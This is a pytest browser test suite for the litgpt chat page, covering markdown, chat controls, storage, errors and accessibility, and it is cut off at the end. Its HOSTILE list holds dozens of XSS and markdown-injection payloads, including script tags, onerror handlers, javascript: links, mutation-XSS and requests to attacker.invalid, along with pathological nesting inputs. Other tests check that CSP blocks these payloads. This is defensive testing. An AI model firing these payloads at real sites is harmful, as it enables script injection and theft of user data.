# ruff: noqa: E402 - without the packages the module is skipped before the imports that need them
"""The chat page, in a headless Chromium; skipped where there is none."""

import asyncio
import json
import os
import re
import threading
import time
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Optional

import pytest

pytest.importorskip("fastapi")
httpx = pytest.importorskip("httpx")

from litgpt.checkpoint.hub import PICO
from litgpt.checkpoint.model_card import Facts, write_card
from litgpt.generate.engine import GREEDY, generate
from litgpt.generate.engine import Request as Sequence
from litgpt.generate.inference_model import InferenceModel
from litgpt.generate.sampling import Sampling
from litgpt.methods.lora import LoRA
from litgpt.serve.about import about_model
from litgpt.serve.app import PAGE, PAGE_FILES
from litgpt.serve.failure import Failure
from litgpt.serve.service import Service
from litgpt.serve.worker import Delta, Generation
from litgpt.text.chat_template import ChatTemplate
from litgpt.text.prompt_style import PromptStyle
from litgpt.train.card import table
from tests.runs import exit_code
from tests.servers import Running, in_thread
from tests.test_lora import save, with_lora

PHONE = {"width": 390, "height": 844, "deviceScaleFactor": 1, "mobile": True}
DESKTOP = {"width": 1280, "height": 800, "deviceScaleFactor": 1, "mobile": False}
ENTER, ESCAPE, UP, SHIFT, NULL = "\ue007", "\ue00c", "\ue013", "\ue008", "\ue000"


class Script:
    """What the server's models say instead of their own answers."""

    def __init__(self) -> None:
        self.texts: list[str] = []  # in turn; the last one again and again
        self.piece, self.delay, self.finish = 40, 0.0, "stop"
        self.failure: Optional[Failure] = None  # at the end of each answer

    async def deltas(self, generation: Generation) -> AsyncIterator[Delta]:
        text = self.texts.pop(0) if len(self.texts) > 1 else self.texts[0]
        try:
            for start in range(0, len(text), self.piece):
                generation.n_new += 1
                yield Delta(0, text[start : start + self.piece], [], None)
                await asyncio.sleep(self.delay)
            if self.failure:
                raise self.failure
            yield Delta(0, "", [], self.finish)
        finally:
            generation.cancel()


@pytest.fixture
def script(monkeypatch: pytest.MonkeyPatch) -> Script:
    """Prompts may then be as long as they like."""
    made = Script()
    monkeypatch.setattr(Generation, "deltas", lambda generation: made.deltas(generation))
    monkeypatch.setattr(Service, "sequences", lambda *args: [Sequence([1], 1)])
    return made


class Page:
    """The page in a browser, after a visit to the address without earlier chats."""

    def __init__(self, browser: Any, url: str, device: dict[str, Any] = DESKTOP) -> None:
        self.browser, self.url = browser, url
        browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", device)
        browser.get(url + "/health")
        self.js("localStorage.clear(); sessionStorage.clear()")
        browser.get_log("browser"), browser.get_log("performance")
        self.open()

    def open(self) -> None:
        self.browser.get(self.url)
        self.wait(lambda: self.all("#models input"))

    def js(self, code: str, *values: Any) -> Any:
        return self.browser.execute_script(code, *values)

    def all(self, selector: str) -> list[Any]:
        return self.browser.find_elements("css selector", selector)

    def one(self, selector: str) -> Any:
        return self.browser.find_element("css selector", selector)

    def click(self, action: str, number: int = -1) -> None:
        self.all(f"[data-action={action}]")[number].click()

    def wait(self, ready: Callable[[], Any], seconds: float = 20) -> None:
        from selenium.webdriver.support.ui import WebDriverWait

        WebDriverWait(self.browser, seconds, poll_frequency=0.05).until(lambda _: ready())

    def idle(self) -> bool:
        return self.one("#send").is_displayed()

    def texts(self, selector: str) -> list[str]:
        return [element.get_property("textContent") for element in self.all(selector)]

    def answers(self) -> list[str]:
        return self.texts(".said")

    def send(self, question: str) -> None:
        self.one("#question").send_keys(question, ENTER)

    def ask(self, question: str) -> str:
        self.send(question)
        self.wait(self.idle)
        return self.answers()[-1]

    def keys(self, *keys: str) -> None:
        self.browser.switch_to.active_element.send_keys(*keys)

    def choose_both(self) -> None:
        for box in self.all("#models input:not(:checked)"):
            box.click()

    def chats(self) -> list[dict[str, Any]]:
        """What the browser keeps."""
        code = "return Object.keys(localStorage).filter(k => k.includes(':chat:')).map(k => localStorage[k])"
        return sorted(map(json.loads, self.js(code)), key=lambda chat: chat["changed"])

    def fits(self) -> bool:
        """Whether nothing makes the page wider than the screen."""
        return self.js("return document.documentElement.scrollWidth <= innerWidth")

    def requests(self) -> set[str]:
        """The addresses that the page asked for since the last call."""
        events = [json.loads(entry["message"])["message"] for entry in self.browser.get_log("performance")]
        return {e["params"]["request"]["url"] for e in events if e["method"] == "Network.requestWillBeSent"}

    def problems(self) -> list[str]:
        """Errors on the browser's console since the last call."""
        return [entry["message"] for entry in self.browser.get_log("browser") if entry["level"] == "SEVERE"]

    def picture(self, name: str) -> None:
        if folder := os.environ.get("LITGPT_SCREENSHOTS"):
            self.browser.save_screenshot(str(Path(folder) / f"{name}.png"))


@pytest.fixture(scope="module")
def adapter(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The result of a run, with a card and examples."""
    lora, run = LoRA(r=4, alpha=32), tmp_path_factory.mktemp("runs") / "one"
    run.mkdir()
    folder = save(with_lora(PICO, lora), lora, PICO, run / "final")
    rows = [("base", "pico"), ("data", "`sums.json`: 9 rows, hash 0a1b2c"), ("seed", "1")]
    write_card(folder, "one", Facts(training=table(rows)), None)
    lines = [{"step": 0, "question": text} for text in ("What is one plus one?", "Why?", HOSTILE[0], "Never shown")]
    (run / "examples.jsonl").write_text(
        "".join(json.dumps(line) + "\n" for line in [{"step": 0, "exact": 1, "rows": 2}, *lines]) + "no JSON"
    )
    return folder


@pytest.fixture(scope="module")
def running(adapter: Path) -> Iterator[Running]:
    with in_thread(adapter, sampling=Sampling(0.0), max_new_tokens=100) as made:
        yield made


@pytest.fixture(params=["desktop", "phone"])
def page(request: pytest.FixtureRequest, browser: Any, running: Running) -> Iterator[Page]:
    page = Page(browser, running.url, PHONE if request.param == "phone" else DESKTOP)
    yield page
    page.picture(f"{request.node.name}")
    assert page.fits() and page.problems() == []
    assert {url for url in page.requests() if not url.startswith((running.url, "data:,", "blob:"))} == set()
    running.wait_idle()


HOSTILE = [
    "<script>document.title = 'hacked'</script>",
    "<img src=x onerror=\"document.title = 'hacked'\">",
    "<img src='http://attacker.invalid/a.png'>",
    "![x](http://attacker.invalid/a.png)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
    "![x](javascript:alert(1))",
    '![" onerror="alert(1)](http://attacker.invalid/"onerror="alert(1))',
    "<svg onload=\"document.title = 'hacked'\"><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "[x](javascript:document.title='hacked')",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](blob:http://127.0.0.1/x) [x](file:///etc/passwd)",
    "[x](//attacker.invalid) [x](/v1/models) [x](#talk)",
    '<javascript:alert(1)> <http://attacker.invalid/"onclick=alert(1)>',
    '[x]: javascript:alert(1) "x" onclick="alert(1)"\n\n[x] [x][x]',
    "[x](http://a.invalid 'title\" onmouseover=\"alert(1)')",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "```html\n<script>document.title = 'hacked'</script>",
    "`<img src=x onerror=alert(1)>`",
    "<iframe src='javascript:parent.document.title=1'></iframe><object data='x'></object><embed src='x'>",
    "<form action='http://attacker.invalid'><input name=key><button>Send</button></form>",
    "<style>* { display: none !important }</style><link rel=stylesheet href='http://attacker.invalid/x.css'>",
    "<base href='http://attacker.invalid/'><meta http-equiv=refresh content='0;url=http://attacker.invalid'>",
    "<div id=talk class=hidden style='position:fixed;inset:0'><b>unclosed <i>tags <a href=",
    "<!-- <img --> src=x onerror=alert(1)> <![CDATA[<script>]]> <?php ?> <!DOCTYPE x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template><slot name=x>",
    "| <script>alert(1)</script> | <b>x\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "|a" * 100 + "|\n" + "|-" * 100 + "|\n" + ("|x" * 100 + "|\n") * 100,
    ">" * 1000 + " deep",
    "- " * 1000 + "deep",
    "> 1. - " * 15_000,
    "\n".join("  " * i + "- deep" for i in range(300)),
    "*a **b " * 3000,
    "[" * 10_000 + "]" * 10_000,
    "a**b" * 5000,
    "<think>" * 100 + "</think><script>alert(1)</script>",
    "$$<img src=x onerror=alert(1)>$$ \\[<script>alert(1)</script>\\] $<b>$",
    "\u202etxet\u202c \0 \ufeff \u2028 " + "Z\u0351\u0325" * 500 + "x" * 50_000,
    "<a id=open-settings name=body><form id=ask><input name=children></form></a>",
]
MARKDOWN = """## A plan for *today*

1. Wake up
2. Read `README.md`
   - first part

   and more

```python
def add(a, b):

    return a + b  # <b>
```

| animal | place |
|---|:---:|
| frog | pond |

> A quote
> goes on

Math: $a_1 + b_1$, \\(x^*y^*\\) costs $5 and $6.

$$
a \\\\ b_1 * c_1

- d
$$

A [link](https://example.org/a_b), ![a picture](https://example.org/x.png) and [another].
A line
===

- [x] done
- [ ] open

[another]: https://example.org/other
"""


def test_what_the_page_may_do(running):
    page = httpx.get(running.url + "/")
    policy = page.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "unsafe" not in policy and "http" not in policy and "*" not in policy
    for path, name in PAGE.items():
        response = httpx.get(running.url + path)
        kind = {"l": "text/html", "s": "text/css" if name.endswith("css") else "text/javascript"}[name[-1]]
        assert response.headers["Content-Type"].startswith(kind)
        assert response.headers["Content-Security-Policy"] == policy
        if "vendor" not in path:
            assert not re.search(r"://|innerHTML|insertAdjacent|\beval\b|style=|\son\w+=", response.text), path
    files = {
        p.relative_to(PAGE_FILES).as_posix() for p in PAGE_FILES.rglob("*") if p.suffix in (".html", ".css", ".js")
    }
    assert files == set(PAGE.values())


def test_versions_of_the_libraries():
    vendor = PAGE_FILES / "vendor"
    rows = re.findall(r"\| `(.+)` \| (\w+) \| ([\d.]+) \| .*`(.+)` \|", (vendor / "README.md").read_text())
    assert [file for file, *_ in rows] == ["marked.esm.js", "purify.min.js"]
    for file, name, version, license in rows:
        assert re.search(rf"{name} v?{re.escape(version)}\b", (vendor / file).read_text()[:300])
        assert (vendor / license).stat().st_size > 1000


def test_facts_for_the_page(running):
    facts = httpx.get(running.url + "/page/about.json").json()
    assert facts["defaults"] == {
        **{"temperature": 0.0, "top_k": 50, "top_p": 1.0, "min_p": 0.0, "repetition_penalty": 1.0},
        "max_tokens": 100,
    }
    one, pico = facts["models"]
    assert one == {
        "id": "one",
        "training": [["base", "pico"], ["data", "sums.json: 9 rows"]],
        "questions": ["What is one plus one?", "Why?", HOSTILE[0]],
        "single_turn": False,
        "reasoning": False,
    }
    assert pico["id"] == "pico" and pico["training"] == [] and pico["questions"] == []


def test_facts_of_other_styles(running):
    model = running.service.registry.models["pico"]
    assert about_model(replace(model, style=PromptStyle.from_name("alpaca")))["single_turn"]
    thinking = "{% for m in messages %}{{ m.content }}{% endfor %}<think>\n"
    assert about_model(replace(model, style=ChatTemplate(thinking, {})))["reasoning"]


def test_a_question(browser, running):
    """The model's own answer, without a mouse."""
    page = Page(browser, running.url)
    loaded = InferenceModel.open(PICO, precision="32-true")
    ids = loaded.render([{"role": "user", "content": "What is five plus six?"}])[1]
    expected = loaded.tokenizer.decode(list(generate(loaded.model, ids, 100, GREEDY, loaded.stop_ids)))
    page.choose_both()
    page.one("#question").click()
    page.keys("What is five plus six?", ENTER)
    page.wait(page.idle)
    assert page.texts(".answer h2") == ["one", "pico"]
    assert page.answers()[1].split() == expected.split() != page.answers()[0].split()
    assert re.fullmatch(r"\d+ tokens, [\d.]+ tokens/s", page.texts(".answer .note")[1])
    assert page.problems() == []


# the rest says what a script says


@pytest.mark.long
def test_markdown(page, script):
    script.texts = [MARKDOWN]
    page.ask("Go!")
    said = page.one(".said")
    for selector in ("h4 em", "ol > li > ul > li", "li code", "td", "blockquote p", ".math", "pre > code"):
        assert said.find_elements("css selector", selector), selector
    assert page.texts(".said .math") == ["$a_1 + b_1$", "\\(x^*y^*\\)", "$$\na \\\\ b_1 * c_1\n\n- d\n$$"]
    assert "costs $5 and $6." in page.answers()[0]
    links = {
        a.text: (a.get_attribute("href"), a.get_attribute("rel"), a.get_attribute("target"))
        for a in page.all(".said a")
    }
    safe = ("noopener noreferrer nofollow", "_blank")
    assert links == {
        "link": ("https://example.org/a_b", *safe),
        "a picture": ("https://example.org/x.png", *safe),
        "another": ("https://example.org/other", *safe),
    }
    assert page.all(".said img") == [] and page.texts(".said .code span") == ["python"]
    page.browser.execute_cdp_cmd("Browser.grantPermissions", {"permissions": ["clipboardReadWrite"]})
    page.click("copy-code")
    page.wait(lambda: page.texts("[data-action=copy-code]") == ["Copied"])
    assert clipboard(page) == "def add(a, b):\n\n    return a + b  # <b>\n"
    page.click("copy")
    page.wait(lambda: clipboard(page) == MARKDOWN)
    page.wait(lambda: page.texts("[data-action=copy-code]") == ["Copy"])
    script.texts = ["Something else."]
    page.click("regenerate")
    page.wait(lambda: page.idle() and page.answers() == script.texts)


def clipboard(page: Page) -> str:
    return page.browser.execute_async_script("navigator.clipboard.readText().then(arguments[0])")


@pytest.mark.long
def test_growing_text_ends_as_the_complete_one(page):
    """Whatever the parts are; and blocks that have ended are not touched again."""
    code = """
      const [texts, step, done] = arguments;
      import("./page/markdown.js").then(({ MarkdownView }) => {
        const wrong = [];
        for (const text of texts) {
          const [grown, complete] = [document.createElement("div"), document.createElement("div")];
          new MarkdownView(complete).show(text, true);
          const view = new MarkdownView(grown);
          let first = null;
          for (let i = 1; i < text.length; i += step) {
            view.show(text.slice(0, i), false);
            if (view.n > 0) first ??= grown.firstChild;
          }
          if (first && first !== grown.firstChild) wrong.push(text);
          view.show(text, true);
          if (!grown.isEqualNode(complete)) wrong.push(text);
          if (first && first !== grown.firstChild) wrong.push(text);
        }
        done(wrong);
      });
    """
    crlf = MARKDOWN.replace("\n", "\r\n")
    short = [text for text in HOSTILE if len(text) < 500]
    assert page.browser.execute_async_script(code, [MARKDOWN, crlf, *short], 1) == []
    assert page.browser.execute_async_script(code, [MARKDOWN * 20], 37) == []


@pytest.mark.long
def test_hostile_answers(page, script):
    """Nothing is loaded, nothing runs, and the page stays usable."""
    page.js("window.alert = window.open = () => { document.title = 'hacked' }")
    title = page.browser.title
    assert len(HOSTILE) >= 40
    for i, text in enumerate(HOSTILE):
        if i % 10 == 0:
            page.click("fresh") if i else None
        script.texts, script.piece = [text], max(1, len(text) // 5)
        began = time.monotonic()
        page.ask(f"Attack {i}")
        assert time.monotonic() - began < 10, text[:80]
        if text.startswith("<"):
            visible = re.sub(r"\W", "", "".join(page.texts(".answer")[-1:]))
            assert re.sub(r"\W|<think>", "", text)[:40] in visible or "<think>" in text, "HTML is shown as text"
    for chat in range(len(page.all("#chat-list li"))):
        page.js("document.querySelectorAll('#chat-list .open')[arguments[0]].click()", chat)
        for link in page.all(".said a"):
            assert (link.get_attribute("href") or "https:").startswith(("http:", "https:"))
        tags = page.js("return [...document.querySelectorAll('.said *')].map(e => e.tagName)")
        assert set(map(str.lower, tags)) <= set(ALLOWED.split())
        attributes = page.js("return [...document.querySelectorAll('.said *')].flatMap(e => e.getAttributeNames())")
        assert set(attributes) <= set("align class href rel target start tabindex type data-action aria-label".split())
    assert page.browser.title == title
    script.texts = ["Still here."]
    page.click("fresh")
    assert page.ask("Hello?") == "Still here."


ALLOWED = "a blockquote br button code del div em h3 h4 h5 h6 hr li ol p pre span strong table tbody td th thead tr ul"


@pytest.mark.long
def test_scripts_from_texts_are_refused(page):
    assert "TrustedHTML" in page.js("try { document.body.innerHTML = '<b>x' } catch (e) { return String(e) }")
    assert "TrustedScript" in page.js("try { setTimeout('1') } catch (e) { return String(e) }")
    page.js(
        "const image = new Image(); image.src = 'http://attacker.invalid/a.png'; document.body.append(image);"
        "fetch('http://attacker.invalid/').catch(() => {})"
    )
    time.sleep(0.3)
    problems = page.problems()
    assert len(problems) >= 2 and all(re.search("Content Security Policy|requires 'Trusted", p) for p in problems)
    page.requests()  # those that were blocked


@pytest.mark.long
def test_stop_continue_regenerate_and_edit(page, script, bodies):
    script.texts, script.delay, script.piece = ["one two three four five six seven eight nine ten " * 20], 0.05, 4
    page.send("Count!")
    page.wait(lambda: len("".join(page.answers())) > 20)
    page.keys(ESCAPE)
    page.wait(page.idle)
    begun = page.chats()[0]["turns"][0]["answers"][0]["text"]
    assert len(begun) > 20 and page.texts(".answer .note")[0].startswith("Stopped")
    script.texts, script.delay, script.finish = [" and so on"], 0, "length"
    page.click("continue")
    page.wait(page.idle)
    assert bodies[-1]["continue_final_message"] and bodies[-1]["messages"][-1] == {
        "role": "assistant",
        "content": begun,
    }
    assert page.answers() == [(begun + " and so on").strip()]
    assert page.texts(".answer .note")[0].startswith("Truncated")
    script.texts, script.finish = ["Again."], "stop"
    page.click("regenerate")
    page.wait(lambda: page.idle() and page.answers() == ["Again."])
    assert [m["content"] for m in bodies[-1]["messages"]] == ["Count!"]
    assert (
        page.texts(".answer .note")[0].startswith("2 tokens") and not page.one("[data-action=continue]").is_displayed()
    )
    page.click("edit-answer")
    page.keys(" Or not.", ENTER)
    assert page.answers() == ["Again. Or not."]
    page.ask("Second")
    assert [m["content"] for m in bodies[-1]["messages"]] == ["Count!", "Again. Or not.", "Second"]
    page.click("edit-question", 0)
    page.keys(ESCAPE)
    assert page.texts(".question .text") == ["Count!", "Second"]
    page.one("#question").click()
    page.keys(UP)
    page.keys(" edited", SHIFT + ENTER, NULL, "x", ENTER)
    page.wait(lambda: page.idle() and page.texts(".question .text") == ["Count!", "Second edited\nx"])
    page.click("edit-question", 0)
    page.keys("!", ENTER)
    page.wait(lambda: page.idle() and page.texts(".question .text") == ["Count!!"])
    assert len(page.chats()) == 1 and len(page.chats()[0]["turns"]) == 1


@pytest.fixture
def bodies(monkeypatch: pytest.MonkeyPatch) -> list[dict[str, Any]]:
    """The bodies of the requests."""
    found: list[dict[str, Any]] = []
    parse = Service.parse
    monkeypatch.setattr(
        Service, "parse", lambda self, s, content, *a: found.append(json.loads(content)) or parse(self, s, content, *a)
    )
    return found


@pytest.mark.long
def test_settings(page, script, bodies):
    script.texts = ["Yes."]
    page.ask("Go!")
    assert set(bodies[-1]) == {"model", "messages", "stream", "stream_options"}, "only what is changed is sent"
    page.click("open-settings")
    fields = {field.get_attribute("name"): field for field in page.all("#settings [name]")}
    shown = {name: field.get_attribute("placeholder") for name, field in fields.items()}
    assert shown == {
        **{"system": "", "temperature": "0", "max_tokens": "100", "top_p": "1", "top_k": "50", "min_p": "0"},
        **{"repetition_penalty": "1", "seed": "random", "stop": ""},
    }
    for name, value in {
        "system": "Be kind.",
        "temperature": "0.5",
        "seed": "7",
        "stop": "a b\n\nc",
        "top_p": "2",
    }.items():
        fields[name].send_keys(value)
    page.one("#settings [type=submit]").click()
    assert page.one("#settings").is_displayed(), "top_p is at most 1"
    fields["top_p"].clear()
    page.one("#settings [type=submit]").click()
    page.open()
    page.ask("Go!")
    assert bodies[-1]["messages"] == [{"role": "system", "content": "Be kind."}, {"role": "user", "content": "Go!"}]
    changed = {"temperature": 0.5, "seed": 7, "stop": ["a b", "c"]}
    assert {k: v for k, v in bodies[-1].items() if k not in bodies[0]} == changed
    page.click("open-settings")
    page.click("reset-settings")
    page.keys(ESCAPE)
    page.ask("Go!")
    assert set(bodies[-1]) == set(bodies[0]) and len(bodies[-1]["messages"]) == 3


@pytest.mark.long
def test_columns(page, script, bodies):
    page.choose_both()
    script.texts = ["First", "Second", "Third", "Fourth", "Fifth"]
    page.ask("Compare!")
    left, right = page.all(".answer")
    side_by_side = left.location["y"] == right.location["y"]
    assert side_by_side == (page.js("return innerWidth") > 640)
    page.all("#models input")[0].click()
    page.ask("More!")
    assert [m["content"] for m in bodies[-1]["messages"]] == ["Compare!", "Second", "More!"], (
        "a model sees its own answers"
    )
    page.choose_both()
    page.ask("Both!")
    own = {body["model"]: [m["content"] for m in body["messages"]] for body in bodies[-2:]}
    assert own["one"] == ["Compare!", "First", "More!", "Third", "Both!"]
    assert own["pico"] == ["Compare!", "Second", "More!", "Third", "Both!"]
    page.all("#models input")[0].click()
    page.all("#models input")[1].click()
    assert len(page.all("#models input:checked")) == 1, "one stays"


@pytest.mark.long
def test_reasoning_is_collapsed(page, script, bodies):
    script.texts = ["<think>\nThe user **wants** 2.\n</think>\n\nIt is 2."]
    page.ask("1 + 1?")
    assert page.answers() == ["It is 2."]
    assert page.texts("details.reasoning .plain") == ["The user **wants** 2."]
    assert not page.one("details.reasoning .plain").is_displayed()
    page.one("details.reasoning summary").click()
    assert page.one("details.reasoning .plain").is_displayed()
    script.texts = ["Done."]
    page.ask("And?")
    answer = {"role": "assistant", "content": "It is 2.", "reasoning_content": "The user **wants** 2."}
    assert bodies[-1]["messages"][1] == answer
    assert not page.all("details.reasoning")[1].is_displayed()


@pytest.mark.long
def test_before_the_first_question(page, script):
    script.texts = ["Two."]
    assert page.texts(".empty h2") == ["one"]
    assert page.texts(".empty dt, .empty dd") == ["base", "pico", "data", "sums.json: 9 rows"]
    assert page.texts(".questions button") == ["What is one plus one?", "Why?", HOSTILE[0]]
    page.choose_both()
    assert page.texts(".empty h2") == ["one", "pico"]
    page.click("ask-this", 0)
    page.wait(lambda: page.idle() and page.answers() == ["Two.", "Two."])
    assert page.texts(".question .text") == ["What is one plus one?"] and not page.all(".empty")


@pytest.mark.long
def test_kept_exported_and_deleted(page, script, tmp_path, capsys):
    page.choose_both()
    script.texts = ["<think>Hm.</think>A", "B", "C"]
    page.ask(f'First chat{SHIFT}{ENTER}{NULL}with lines \u2028 and "quotes"')
    page.click("fresh", 0)
    page.ask("Second chat")
    script.delay, script.texts = 0.05, ["not complete " * 50]
    page.send("Unfinished")
    page.wait(lambda: len(page.answers()) == 4 and page.answers()[-1])
    page.click("fresh", 0)  # while it is answered
    assert page.chats()[-1]["turns"][-1]["answers"][-1]["text"].startswith("not complete")
    show_chats(page)
    page.click("open-chat", 0)
    page.wait(lambda: len(page.answers()) == 4 and page.texts(".answer .note")[3].startswith("Stopped"))
    page.click("continue")
    page.wait(lambda: "complete not complete" in page.answers()[-1])
    page.open()  # while it is answered
    show_chats(page)
    assert [text.split("chat")[0] for text in page.texts("#chat-list .open")] == ["Second ", "First "]
    page.click("open-chat", 0)
    page.wait(lambda: page.texts(".question .text") == ["Second chat", "Unfinished"])
    ends = [note + error for note, error in zip(page.texts(".answer .note"), page.texts(".answer .error"))][2:]
    assert all("Stopped" in end or "connection was lost" in end for end in ends)
    page.browser.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path)})
    show_chats(page)
    page.click("export-all")
    file = tmp_path / "chats.jsonl"
    page.wait(file.exists)
    rows = [json.loads(line) for line in file.read_text(encoding="utf-8").split("\n")[:-1]]
    contents = [[m["content"] for m in row["messages"]] for row in rows]
    assert sorted(c[-1] for c in contents) == ["A", "B", "C"] and all(len(c) == 2 for c in contents)
    assert {m["reasoning_content"] for row in rows for m in row["messages"] if "reasoning_content" in m} == {"Hm."}
    assert exit_code("data", "check", PICO, "--data", file, "--data.on_lost", "as_text") == 0
    assert re.search(r"chats.jsonl +3 +3 +0", capsys.readouterr().out)
    show_chats(page)
    page.click("delete-chat", 0)
    page.browser.switch_to.alert.dismiss()
    assert len(page.chats()) == 2
    page.click("delete-chat", 0)
    page.browser.switch_to.alert.accept()
    page.wait(lambda: [c["turns"][0]["question"][:5] for c in page.chats()] == ["First"])
    show_chats(page)
    page.click("delete-all")
    page.browser.switch_to.alert.accept()
    page.wait(lambda: page.chats() == [] and page.all("#chat-list li") == [] and page.all(".empty"))


def show_chats(page: Page) -> None:
    if not page.one("#chats").is_displayed():
        page.click("open-chats")
        assert page.one("#open-chats").get_attribute("aria-expanded") == "true"


@pytest.mark.long
def test_a_full_browser(page, script):
    script.texts = ["Yes."]
    page.js(
        "for (let n = 1 << 22; n > 0; n >>= 1)"
        "  try { localStorage.fill = (localStorage.fill ?? '') + 'x'.repeat(n) } catch {}"
    )
    page.ask("Is there room?")
    assert "no room" in page.one("#status").text and page.answers() == ["Yes."] and page.chats() == []


@pytest.mark.long
def test_reading_is_not_disturbed(page, script):
    """While an answer grows, the place and the selection stay; the end stays in view if it was."""
    script.texts, script.delay = ["\n\n".join(f"Paragraph {i} has words, and goes on." for i in range(150))], 0.02
    page.send("Go!")
    at = "return document.getElementById('talk').scrollTop"
    page.wait(lambda: page.js(at) > 300)
    page.js(
        "document.getElementById('talk').scrollTop = 100;"
        "getSelection().selectAllChildren(document.querySelector('.said p'))"
    )
    page.wait(lambda: page.one("#to-end").is_displayed())
    n = len(page.answers()[0])
    page.wait(lambda: len(page.answers()[0]) > n + 500)
    assert page.js(at) == 100
    assert page.js("return String(getSelection())").strip() == "Paragraph 0 has words, and goes on."
    page.click("to-end")
    page.wait(lambda: not page.one("#to-end").is_displayed())
    page.wait(page.idle)
    assert (
        page.js("const t = document.getElementById('talk'); return t.scrollHeight - t.scrollTop - t.clientHeight") < 40
    )


@pytest.mark.long
def test_screen_readers(page, script):
    """Everything has a name; an answer is read once, when it is complete."""
    page.js(
        "window.said = []; new MutationObserver(() => said.push(document.getElementById('announced').textContent))"
        ".observe(document.getElementById('announced'), {childList: true, subtree: true, characterData: true})"
    )
    script.texts, script.piece, script.delay = ["A **long** answer. " * 10], 5, 0.01
    page.ask("Go!")
    said = [text for text in page.js("return said") if text]
    assert len(said) == 1 and said[0].startswith("one: A long answer.")
    named = "document.querySelectorAll('button, input, textarea, dialog, section, main, aside')"
    code = (
        f"return [...{named}].filter(e => !(e.textContent.trim() || e.ariaLabel || e.labels?.length"
        " || e.getAttribute('aria-labelledby'))).map(e => e.outerHTML)"
    )
    assert page.js(code) == []
    assert page.all("[aria-live], [role=log]") == [], "nothing is read for each token"


# errors


@pytest.mark.long
def test_errors_of_the_server(page, script):
    script.texts = ["Begun"]
    for failure, message in (
        (Failure(429, "Too many."), "queue is full"),
        (Failure(503, "Stopping."), "is stopping"),
        (Failure(503, "Broken.", code="engine_failed"), "Restart the server"),
        (Failure(504, "It took longer than 600 seconds (--timeout)."), "600 seconds"),
    ):
        script.failure = failure
        page.ask("Go!")
        assert message in page.texts(".answer .error")[-1] and page.answers()[-1] == "Begun"
    script.failure = None
    assert page.texts("[data-action=regenerate]")[-1] == "Try again"
    page.click("regenerate")
    page.wait(lambda: page.idle() and not page.all(".answer .error")[-1].is_displayed())
    assert page.chats()[-1]["turns"][-1]["answers"][0]["state"] == "done"


@pytest.mark.long
def test_a_prompt_that_is_too_long(page):
    page.js("document.getElementById('question').value = 'frog '.repeat(2000)")
    page.send("!")
    page.wait(page.idle)
    (message,) = page.texts(".answer .error")
    assert "too long for the model" in message and "256" in message
    assert page.problems(), "the browser logs the status 400"


@pytest.mark.long
def test_the_key_is_asked_for(browser, adapter, script):
    script.texts = ["Yes."]
    with in_thread(adapter, api_key="secret") as running:
        assert httpx.get(running.url + "/page/about.json").status_code == 401
        browser.get(running.url)
        page = Page.__new__(Page)
        page.browser, page.url = browser, running.url
        page.wait(lambda: page.one("#key").is_displayed())
        page.keys("wrong", ENTER)
        page.wait(lambda: "does not accept" in page.one("#key-problem").text)
        page.keys(ESCAPE)
        page.wait(lambda: "requires an API key" in page.one("#status").text)
        page.click("load")
        page.wait(lambda: page.one("#key").is_displayed())
        page.keys("secret", ENTER)
        page.wait(lambda: page.all("#models input"))
        assert page.ask("Go!") == "Yes."
        page.open()
        assert not page.one("#key").is_displayed(), "it is kept until the tab is closed"
        page.js("sessionStorage.clear()")
        page.choose_both()
        page.send("Compare!")
        page.wait(lambda: page.one("#key").is_displayed())
        page.keys("secret", ENTER)
        page.wait(lambda: page.idle() and page.answers() == ["Yes."] * 2)
        assert "secret" not in page.js("return JSON.stringify(localStorage)")


@pytest.mark.long
def test_the_server_is_gone(browser, adapter, script):
    script.texts, script.delay, script.piece = ["word " * 400], 0.05, 5
    with in_thread(adapter) as running:
        page = Page(browser, running.url)
        page.send("Go!")
        page.wait(lambda: len("".join(page.answers())) > 10)
        for connection in list(running.server.server_state.connections):
            connection.loop.call_soon_threadsafe(connection.transport.abort)
        page.wait(page.idle)
        assert "connection was lost" in page.texts(".answer .error")[0] and page.answers()[0]
        assert page.one("[data-action=continue]").is_displayed()
    page.ask("Are you there?")
    assert "cannot be reached" in page.texts(".answer .error")[-1]


@pytest.mark.long
def test_behind_a_proxy_with_a_prefix(browser, running, script):
    script.texts = ["Yes."]

    class Proxy(BaseHTTPRequestHandler):
        def do_GET(self, content: Optional[bytes] = None) -> None:
            if not self.path.startswith("/llm/"):
                return self.send_response(204) or self.end_headers()
            headers = {"Content-Type": self.headers.get("Content-Type", "")}
            found = httpx.request(self.command, running.url + self.path[4:], content=content, headers=headers)
            self.send_response(found.status_code)
            for name in ("Content-Type", "Content-Security-Policy"):
                if name in found.headers:
                    self.send_header(name, found.headers[name])
            self.end_headers()
            self.wfile.write(found.content)

        def do_POST(self) -> None:
            self.do_GET(self.rfile.read(int(self.headers["Content-Length"])))

        def log_message(self, *args: object) -> None:
            pass

    proxy = ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
    threading.Thread(target=proxy.serve_forever, daemon=True).start()
    page = Page(browser, f"http://127.0.0.1:{proxy.server_port}/llm/")
    assert page.ask("Go!") == "Yes." and page.problems() == []
    proxy.shutdown()
    proxy.server_close()


@pytest.mark.long
def test_light_and_dark(page, script):
    script.texts = [MARKDOWN]
    page.ask("Go!")
    for scheme in ("dark", "light"):
        features = [{"name": "prefers-color-scheme", "value": scheme}]
